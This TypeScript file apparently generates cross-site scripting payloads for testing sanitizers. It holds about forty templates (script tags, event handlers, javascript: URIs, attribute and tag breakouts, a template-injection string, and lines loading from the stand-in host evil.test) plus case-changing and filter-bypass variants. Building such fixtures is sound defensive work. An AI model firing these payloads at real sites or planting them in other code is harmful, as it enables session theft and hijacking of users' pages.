// Script as people have smuggled it into texts. `word` is the name of the function that tells it ran.

const kinds: ((word: string) => string)[] = [
  (word) => `<script>${word}()</script>`,
  (word) => `<ScRiPt>${word}()</sCrIpT>`,
  (word) => `</script><script>${word}()</script>`,
  (word) => `</ScRipt ><img src=x onerror=${word}()>`,
  (word) => `<!--<script>${word}()`,
  (word) => `--><script>${word}()</script>`,
  (word) => `<img src=x onerror=${word}()>`,
  (word) => `"><img src=x onerror=${word}()>`,
  (word) => `'><img src=x onerror=${word}()>`,
  (word) => `" onmouseover="${word}()`,
  (word) => `' onfocus='${word}()' autofocus='`,
  (word) => `<svg onload=${word}()>`,
  (word) => `<svg><script>${word}()</script></svg>`,
  (word) => `<iframe srcdoc="<script>${word}()</script>">`,
  (word) => `<iframe src=javascript:${word}()>`,
  (word) => `<a href="javascript:${word}()">x</a>`,
  (word) => `<a href="&#106;avascript:${word}()">x</a>`,
  (word) => `<body onload=${word}()>`,
  (word) => `<math><mi xlink:href="javascript:${word}()">x</mi></math>`,
  (word) => `<object data="javascript:${word}()">`,
  (word) => `<base href="https://evil.test/${word}/">`,
  (word) => `<meta http-equiv=refresh content="0;url=javascript:${word}()">`,
  (word) => `<style>@import 'https://evil.test/${word}'</style>`,
  (word) => `\u2028${word}()//`,
  (word) => `\\u003cscript\\u003e${word}()\\u003c/script\\u003e`,
  (word) => `&lt;script&gt;${word}()&lt;/script&gt;`,
  (word) => `]]><script>${word}()</script>`,
  (word) => `{{constructor.constructor('${word}()')()}}`,
  (word) => `\`-${word}()-\``,
  (word) => `</textarea><script>${word}()</script>`,
  (word) => `</title><script>${word}()</script>`,
  (word) => `<noscript><p title="</noscript><img src=x onerror=${word}()>">`,
  (word) => `javascript:${word}()`,
  (word) => `<x contenteditable onblur=${word}()>`,
  (word) => `<details open ontoggle=${word}()>`,
  (word) => `<video><source onerror=${word}()></video>`,
  (word) => `<form><button formaction=javascript:${word}()>x</button></form>`,
  (word) => `<input autofocus onfocus=${word}()>`,
  (word) => `<svg><animate onbegin=${word}() attributeName=x></svg>`,
  (word) => `<template><script>${word}()</script></template>`,
]

/** So many different ones in full: each kind, and more of them under other names and letter cases. */
export const mostPayloads = 102

/** The `number`th payload; it calls `word`, in every place where script could begin. */
export function payload(number: number, word: string): string {
  const text = kinds[number % kinds.length]?.(word) ?? ''
  switch (Math.floor(number / kinds.length)) {
    case 0:
      return text
    case 1:
      // Tags in capitals, and a slash where a space is expected: what simple filters forget.
      return text.replace(/<(\w+) /g, (_, tag: string) => `<${tag.toUpperCase()}/`)
    default:
      return `'"\`></option></select>${text}`
  }
}
